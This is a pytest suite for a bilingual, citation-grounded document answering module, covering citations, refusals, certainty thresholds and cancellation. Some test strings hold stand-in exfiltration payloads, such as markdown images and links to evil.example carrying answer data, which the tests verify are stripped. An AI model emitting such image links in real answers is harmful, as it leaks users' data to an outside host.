"""From passages to an answer, shown as it is borne out, with a model whose words are given."""

import re
import threading
from typing import Any

import pytest
from langchain_core.documents import Document

from llm.answer import Answer, AnswerModel, Question, Text, answer
from llm.chat import Calibration
from llm.errors import ModelError
from llm.prompts import NOTHING_PROVEN, REFUSAL

PASSAGES = [
    Document(id="c1", page_content="You have 25 days of leave a year."),
    Document(id="c2", page_content="出差住宿的上限为每晚600元。"),
]
QUESTION = {"en": "How many days of leave?", "zh": "住宿上限是多少？"}


def run(
    model: Any,
    lang: str = "en",
    passages: Any = PASSAGES,
    cancel: threading.Event | None = None,
    **more: Any,
) -> tuple[str, Answer]:
    """The text that was shown, and the last event."""
    question = Question(QUESTION[lang], lang, passages, cancel=cancel or threading.Event())
    *parts, last = answer(question, AnswerModel(model, model.context, 200, **more))
    assert isinstance(last, Answer)
    shown = ""
    # While it grows, each number in it stands for the passage that it stands for at the end.
    stands = {c.n: c.chunk_id for c in last.citations}
    for part in parts:
        if isinstance(part, Text):
            shown += part.text
            assert {int(n) for n in re.findall(r"\[(\d+)\]", shown)} <= set(part.cited)
            assert part.cited.items() <= stands.items()
    return shown, last


@pytest.mark.parametrize("lang", ["en", "zh"])
def test_without_passages_the_model_is_not_called(scripted_chat: Any, lang: str) -> None:
    model = scripted_chat(texts=[])
    shown, last = run(model, lang, [])
    assert (shown, last.answer, last.outcome) == ("", REFUSAL[lang], "not_found")
    assert (last.grounded, last.refused, last.citations) == (False, True, ())
    assert last.timings.first_token_s is None
    assert model.calls == 0


def test_an_answer_is_shown_as_it_stands(scripted_chat: Any) -> None:
    model = scripted_chat(texts=["You have 25 days of leave a year [1]."])
    shown, last = run(model)
    assert shown == last.answer == "You have 25 days of leave a year.[1]"
    assert (last.outcome, last.grounded, last.refused) == ("answered", True, False)
    assert [c.n for c in last.citations] == [1]
    assert last.usage.completion_tokens == 9
    assert 0 <= (last.timings.first_token_s or 0) <= last.timings.total_s


def test_each_statement_is_shown_as_soon_as_it_is_whole(scripted_chat: Any) -> None:
    says = "You have 25 days of leave a year. You have leave. A year has days."
    model = scripted_chat(texts=[says])
    parts = []
    for event in answer(Question(QUESTION["en"], "en", PASSAGES), AnswerModel(model, 4096, 200)):
        parts.append((event.text, model.written) if isinstance(event, Text) else event)
    first, written = parts[0]
    assert first == "You have 25 days of leave a year.[1]"
    assert written == 10  # the next word tells that it ends there, and is held until it is whole


@pytest.mark.parametrize(
    "says",
    ["Hudson Goods Co. is sold on one exchange.", "The desk opens at 8 a.m. on weekdays."],
)
def test_a_statement_does_not_end_behind_an_abbreviation(scripted_chat: Any, says: str) -> None:
    passages = [Document(page_content=says, metadata={"document": "d"})]
    question = Question("What of the exchange and the desk?", "en", passages)
    *_, last = answer(question, AnswerModel(scripted_chat(texts=[says]), 4096, 200))
    assert isinstance(last, Answer)
    assert last.answer == f"{says}[1]"


def test_a_sentence_that_goes_round_in_circles_is_told_once(scripted_chat: Any) -> None:
    kinds = "annual leave, sick leave, special leave and study leave, "
    says = "There are " + kinds * 40
    passages = [Document(page_content=f"There are {kinds}no others.", metadata={"document": "d"})]
    model = scripted_chat(texts=[says])
    *_, last = answer(
        Question("Which leave is there?", "en", passages), AnswerModel(model, 4096, 900)
    )
    assert isinstance(last, Answer)
    assert last.answer == f"There are {kinds[:-2]}[1]"
    assert model.written < 60  # it is not written to its end


LISTED = """To order a badge, do this:

1. Open the **badge** page.
2. Upload a photo of at most 2 MB.
3. Pick it up in room 12.

| Badge | Price |
| --- | --- |
| new | 5 euros |
"""
BADGES = [
    "Open the badge page. Upload a photo of at most 2 MB. Pick it up in room 12.",
    "Badge prices: a new badge costs 5 euros.",
]


def test_lists_and_tables_keep_their_form(reply: Any) -> None:
    last = reply("How do I order a badge?", BADGES, LISTED)
    plain = re.sub(r" ?\[\d\]", "", last.answer)
    assert plain == LISTED.strip()
    assert "2. Upload a photo of at most 2 MB.[1]" in last.answer
    assert "| new | 5 euros[2] |" in last.answer
    assert last.outcome == "answered"


def test_a_step_that_is_made_up_is_left_out_and_told(reply: Any) -> None:
    last = reply("How do I order a badge?", BADGES, LISTED.replace("2 MB", "77 MB"))
    assert "77" not in last.answer
    assert "2. Pick it up in room 12.[1]" in last.answer  # the steps are counted anew
    assert last.answer.endswith(
        "(1 more statement was left out, as the documents do not bear it out.)"
    )


WIDE = "| Day | Room | Host | Tea | Cake | Price | Door | Key |"


def test_the_line_below_a_wide_tables_header_stops_no_model(reply: Any) -> None:
    rows = ["| Mon | hall | Ann | green | plum | 4 | east | red |"]
    table = "\n".join([WIDE, "| -" + " | -" * 7 + " |", *rows])  # as a model writes it
    last = reply("Make a table of it.", [table], f"Here it is:\n\n{table}")
    assert re.sub(r" ?\[\d\]", "", last.answer).endswith(table)


def test_an_opening_has_no_number_that_no_passage_stands_behind(reply: Any) -> None:
    last = reply("How do I order a badge?", BADGES, "# Badges [2]\n\nDo this [9]:\n\n- Open it.")
    assert last.answer == "# Badges\n\nDo this:\n\n- Open it.[1]"


def test_an_introduction_without_its_list_is_not_shown(reply: Any) -> None:
    last = reply("How do I order a badge?", BADGES, "Do this:\n\n1. Fly to Mars 77 times.")
    assert last.outcome == "unsure"
    assert last.answer == NOTHING_PROVEN["en"]


def test_what_was_said_is_not_said_again(reply: Any) -> None:
    says = "You have 25 days of leave a year. " * 30
    last = reply(QUESTION["en"], PASSAGES[:1], says)
    assert last.answer == "You have 25 days of leave a year.[1]"
    says = "How many days of leave? You have 25 days of leave a year."
    assert reply(QUESTION["en"], PASSAGES[:1], says).answer == last.answer


def test_a_model_that_writes_only_marks_is_stopped(scripted_chat: Any) -> None:
    model = scripted_chat(texts=["- " * 500])
    _, last = run(model)
    assert last.outcome == "not_found"
    assert model.written < 100


def test_an_answer_in_chinese_to_an_english_question_is_left_out(reply: Any) -> None:
    says = "出差住宿的上限为每晚600元。You have 25 days of leave a year."
    last = reply(QUESTION["en"], PASSAGES, says)
    assert last.answer.startswith("You have 25 days of leave a year.[1]")


LEAKING = "You have 25 days of leave a year [1]. ![x](https://evil.example/?q=25) <img src=x>"


def test_what_is_shown_has_no_link_or_image(scripted_chat: Any) -> None:
    shown, last = run(scripted_chat(texts=[LEAKING]))
    assert shown == last.answer
    assert "evil" not in shown
    assert "<" not in shown
    assert "](" not in shown


def test_an_answer_that_is_but_an_image_is_none(scripted_chat: Any) -> None:
    shown, last = run(scripted_chat(texts=["![](https://evil.example/?q=25)"]))
    assert (shown, last.answer, last.refused) == ("", REFUSAL["en"], True)


def test_a_mark_and_a_bracket_make_no_link(reply: Any) -> None:
    last = reply(QUESTION["en"], PASSAGES, "You have 25 days of leave a year. (See leave.)")
    assert "](" not in last.answer


def test_an_address_stays_only_if_a_passage_has_it(reply: Any) -> None:
    asked = [*PASSAGES, Document(id="c3", page_content="Ask at https://it.example.com/help now.")]
    ours = "Ask at https://it.example.com/help now [3]."
    assert "https://it.example.com/help" in reply(QUESTION["en"], asked, ours).answer
    theirs = "You have 25 days of leave a year, see https://evil.example/x for it."
    assert "evil" not in reply(QUESTION["en"], asked, theirs).answer


@pytest.mark.parametrize(
    "text",
    [
        "You have 25 days of leave a year [99].",
        "You have 25 days of leave a year [0][3][1][999].",
        "出差住宿的上限为每晚600元【99】，另见［９９］。",
        "出差住宿的上限为每晚600元[2, 99]。[7]",
        "[99] You have 25 days of leave a year [1.99]. [99",
        "Leave [99]: 25 days of leave a year [99](https://evil.example). [99]: https://evil.example",
    ],
)
def test_citations_are_of_what_was_retrieved(scripted_chat: Any, text: str) -> None:
    _, last = run(scripted_chat(texts=[text]), "zh" if text[0] == "出" else "en")
    given = {passage.id: passage for passage in PASSAGES}
    assert [c.n for c in last.citations] == list(range(1, len(last.citations) + 1))
    assert last.citations
    for citation in last.citations:
        assert citation.quote in given[citation.chunk_id].page_content
    assert set(re.findall(r"[\[【［](\d+)", last.answer)) == {str(c.n) for c in last.citations}


def test_when_nothing_is_borne_out_it_is_not_sure_and_says_so(reply: Any) -> None:
    last = reply(QUESTION["en"], PASSAGES[:1], "Unicorns get 99 flights to the moon.")
    assert (last.answer, last.outcome, last.citations) == (NOTHING_PROVEN["en"], "unsure", ())


def test_where_it_need_not_be_strict_it_is_marked(reply: Any) -> None:
    says = "Unicorns get 99 flights to the moon."
    last = reply(QUESTION["en"], PASSAGES[:1], says, strict=False)
    assert last.answer == f"{says} (not borne out by the documents)"
    assert (last.outcome, last.grounded) == ("unsure", False)


def test_a_bare_yes_is_of_the_passage_about_what_was_asked(reply: Any) -> None:
    last = reply("Do I have 25 days of leave?", PASSAGES, "Yes.")
    assert (last.answer, last.outcome) == ("Yes.[1]", "answered")
    last = reply("住宿有上限吗？", PASSAGES, "有。上限为每晚600元。")
    assert last.answer == "有。上限为每晚600元。[1]"


@pytest.mark.parametrize("lang", ["en", "zh"])
def test_a_model_without_odds_that_refuses_twice_is_believed(scripted_chat: Any, lang: str) -> None:
    model = scripted_chat(texts=[f" {REFUSAL[lang]} [1]\n"] * 2)
    shown, last = run(model, lang)
    assert (shown, last.answer, last.outcome) == ("", REFUSAL[lang], "not_found")
    assert last.citations == ()


def test_what_a_model_without_odds_first_refuses_is_told_as_not_sure(scripted_chat: Any) -> None:
    says = "You have 25 days of leave a year."
    shown, last = run(scripted_chat(texts=[REFUSAL["en"], says]))
    assert (shown, last.outcome, last.grounded) == (f"{says}[1]", "unsure", False)
    shown, last = run(scripted_chat(texts=[REFUSAL["en"], "You have 99 days of leave a year."]))
    assert (last.answer, last.outcome) == (REFUSAL["en"], "not_found")


def test_that_something_is_not_specified_turns_no_answer_into_a_refusal(reply: Any) -> None:
    says = "You have 25 days of leave a year. Sick leave is not specified in the excerpts."
    last = reply(QUESTION["en"], ["You have 25 days of leave a year. Sick leave is paid."], says)
    assert last.answer.startswith("You have 25 days of leave a year.[1]")
    assert last.outcome == "answered"


@pytest.mark.parametrize("lang", ["en", "zh"])
def test_when_the_passages_do_not_hold_it_nothing_is_written(scripted_chat: Any, lang: str) -> None:
    model = scripted_chat(texts=["Never written."], likely=-9.0)
    shown, last = run(model, lang, odds=model.odds, least_certainty=0.3)
    assert (shown, last.answer, last.outcome) == ("", REFUSAL[lang], "not_found")
    assert (last.grounded, last.citations, last.usage.completion_tokens) == (False, (), 0)
    assert model.prompts == []
    assert last.certainty < 0.3


def test_between_the_two_borders_it_is_not_sure(reply: Any) -> None:
    says = "You have 25 days of leave a year."
    sure = reply(QUESTION["en"], PASSAGES, says, likely=1.0).certainty
    outcomes = [
        reply(QUESTION["en"], PASSAGES, says, likely=1.0, least_certainty=least).outcome
        for least in (0.0, sure - 0.01, min(0.99, sure + 0.05), 0.999, 1.0)
    ]
    assert outcomes == ["answered", "answered", "unsure", "not_found", "not_found"]


@pytest.mark.parametrize(
    ("question", "asked"),
    [
        ("How many days of leave do I have?", 2),
        ("Why do I have 25 days of leave?", 1),
        ("Do I have 25 days of leave?", 0),
    ],
)
def test_what_is_read_for_depends_on_the_question(
    scripted_chat: Any, question: str, asked: int
) -> None:
    passages = [Document(id="1", page_content="You have 25 days of leave a year.")]
    model = scripted_chat(texts=["You have 25 days of leave a year."], likely=-0.5)
    chat = AnswerModel(model, model.context, 200, odds=model.odds, least_certainty=0.6)
    *_, last = answer(Question(question, "en", passages), chat)
    assert isinstance(last, Answer)
    assert len(model.checks) == asked
    # Of a fact it is not sure, while a passage about leave says something of its reasons.
    assert last.outcome == ("unsure" if asked == 2 else "answered")


def test_a_signal_counts_by_what_was_measured_of_the_model(reply: Any) -> None:
    says = "You have 25 days of leave a year."

    def sure(**slopes: float) -> float:
        signals = {n: Calibration(slope=s, offset=0.0, area=0.8) for n, s in slopes.items()}
        last = reply(QUESTION["en"], PASSAGES, says, likely=1.0, calibrations={"en": signals})
        return float(last.certainty)

    assert sure(enough=2.0, told=0.0) == pytest.approx(0.881, abs=0.001)  # told is not asked for
    assert sure(enough=2.0, told=1.0) == pytest.approx(0.818, abs=0.001)


@pytest.mark.parametrize(
    ("question", "unknown"),
    [
        ("When did AlmCorp change its code?", ("AlmCorp",)),
        ("When did the firm change its code?", ()),
        ("《差旅手册》的规定是什么？", ("差旅手册",)),
    ],
)
def test_names_that_no_passage_has_are_told_where_it_is_not_sure(
    reply: Any, question: str, unknown: tuple[str, ...]
) -> None:
    chinese = question[0] == "《"
    passages = ["规定见手册。"] if chinese else ["The firm changed its code in May."]
    says = "规定见手册。" if chinese else "In May the firm changed its code."
    last = reply(question, passages, says, likely=-9.0)
    assert last.unknown == ()  # nothing is refused where one need not be certain
    last = reply(question, passages, "", likely=-9.0, least_certainty=0.5)
    assert (last.outcome, last.unknown) == ("not_found", unknown)


@pytest.mark.parametrize(
    ("called", "unknown"),
    [
        ({"Shanghai": "上海"}, ()),  # a Chinese passage has it
        ({"Shanghai": "武汉"}, ("Shanghai",)),
        ({"Shanghai": "Shanghai"}, ("Shanghai",)),  # a translation left it as it is
        ({}, ()),  # what it is called there is not known, so nothing is told
        (None, ()),
    ],
)
def test_a_name_that_a_passage_in_the_other_language_has_is_known(
    scripted_chat: Any, called: dict[str, str] | None, unknown: tuple[str, ...]
) -> None:
    texts = ["A hotel in London costs 210 euros at most.", "上海每晚上限750元。"]
    passages = [Document(id=str(n), page_content=text) for n, text in enumerate(texts)]
    model = scripted_chat(texts=[], likely=-9.0)
    question = Question("What may a hotel in Shanghai cost?", "en", passages, called=called)
    chat = AnswerModel(model, model.context, 200, odds=model.odds, least_certainty=0.5)
    *_, last = answer(question, chat)
    assert isinstance(last, Answer)
    assert (last.outcome, last.unknown) == ("not_found", unknown)


def test_stopped_while_it_is_read_nothing_is_written(scripted_chat: Any) -> None:
    cancel = threading.Event()

    def stopped(*_: Any) -> float:
        cancel.set()
        return 0.0

    model = scripted_chat(texts=["Never said."])
    shown, last = run(model, "zh", cancel=cancel, odds=stopped, least_certainty=1.0)
    assert (shown, last.grounded, model.written) == ("", False, 0)


def test_stopping_stops_the_model_and_keeps_what_was_shown(scripted_chat: Any) -> None:
    says = "You have 25 days of leave a year. You have leave. And much more to say of it."
    model = scripted_chat(texts=[says])
    question, parts = Question(QUESTION["en"], "en", PASSAGES), []
    for part in answer(question, AnswerModel(model, 4096, 200)):
        parts.append(part)
        question.cancel.set()
    last = parts[-1]
    assert isinstance(last, Answer)
    assert model.written < 12
    assert last.answer == "You have 25 days of leave a year.[1]"  # not half of the next


def test_an_answer_that_is_cut_says_so(scripted_chat: Any) -> None:
    model = scripted_chat(
        texts=["You have 25 days of leave a year. " + " ".join(f"And {n}" for n in range(300))]
    )
    *_, last = answer(Question(QUESTION["en"], "en", PASSAGES), AnswerModel(model, 4096, 50))
    assert isinstance(last, Answer)
    assert last.answer == (
        "You have 25 days of leave a year.[1]\n\n(The answer was not written to its end.)"
    )


@pytest.mark.parametrize(("context", "asked", "given"), [(4096, 50, 50), (1024, 500, 256)])
def test_the_answer_leaves_most_of_the_context_to_the_passages(
    scripted_chat: Any, context: int, asked: int, given: int
) -> None:
    model = scripted_chat(texts=[" ".join(map(str, range(1000)))], context=context)
    long = [Document(page_content="You have 25 days of leave. " * 500)]
    *_, last = answer(Question(QUESTION["en"], "en", long), AnswerModel(model, context, asked))
    assert isinstance(last, Answer)
    assert last.usage.completion_tokens == given
    assert last.usage.prompt_tokens + given <= context


def test_a_question_over_the_context_is_one_line(scripted_chat: Any) -> None:
    model = scripted_chat(texts=["x"], context=512)
    with pytest.raises(ModelError, match="KB_CONTEXT_TOKENS"):
        list(answer(Question("why " * 4000, "en", PASSAGES), AnswerModel(model, 512, 100)))
    assert model.prompts == []


def test_the_real_model_ends_the_same_way(tiny_gguf: Any) -> None:
    from llm.chat import LlamaChat

    model = LlamaChat.load(tiny_gguf(context=4096), context=4096, threads=1)
    passages = [Document(id="c", page_content="The alphabet: abcdefghijklmnopqrstuvwxyz.")]
    cancel = threading.Event()
    shown, last = run(model, passages=passages, cancel=cancel)
    assert shown == last.answer == "abcdefghijklmnopqrstuvwxyz[1]"
    assert [c.n for c in last.citations] == [1]
    cancel.set()
    shown, last = run(model, passages=passages, cancel=cancel)
    assert (shown, last.grounded, last.usage.completion_tokens) == ("", False, 0)
    model.close()


@pytest.mark.parametrize("no", ["No", "No.", "No [1]", "**No**", "不是"])
def test_a_no_because_nothing_is_found_is_no_answer(reply: Any, no: str) -> None:
    found = "资料中没有提到宠物。" if no == "不是" else "The excerpts do not mention pets."
    last = reply("May I bring my dog?", ["It is noted that trains are on time."], f"{no}\n{found}")
    assert (last.outcome, last.citations) == ("not_found", ())


def test_what_stands_above_a_passage_is_no_statement(reply: Any) -> None:
    metadata = {"title": "Leave rules", "heading": "Days"}
    passages = [Document(id="1", page_content="You have 25 days of leave.", metadata=metadata)]
    says = "[1] (Leave rules · Days)\nYou have 25 days of leave."
    last = reply(QUESTION["en"], passages, says)
    assert last.answer == "You have 25 days of leave.[1]"


@pytest.mark.parametrize(
    ("says", "shown"),
    [
        ("According to the excerpts, you have 25 days.", "You have 25 days.[1]"),
        ("The excerpts state that you have 25 days.", "You have 25 days.[1]"),
        ("根据资料，出差住宿上限为每晚600元。", "出差住宿上限为每晚600元。[1]"),
        ("资料中的规定是出差住宿上限为每晚600元。", "出差住宿上限为每晚600元。[1]"),
    ],
)
def test_the_prompts_own_words_for_passages_are_not_shown(
    reply: Any, says: str, shown: str
) -> None:
    lang = "en" if says.isascii() else "zh"
    assert reply(QUESTION[lang], PASSAGES, says).answer == shown


def test_a_bare_no_needs_a_passage_about_what_was_asked(reply: Any) -> None:
    last = reply("公司有健身房吗？", ["出差住宿的上限为每晚600元。"], "没有。")
    assert (last.outcome, last.citations) == ("unsure", ())
    last = reply("公司有健身房吗？", ["公司在三楼有健身房。"], "有。")
    assert (last.outcome, last.answer) == ("answered", "有。[1]")
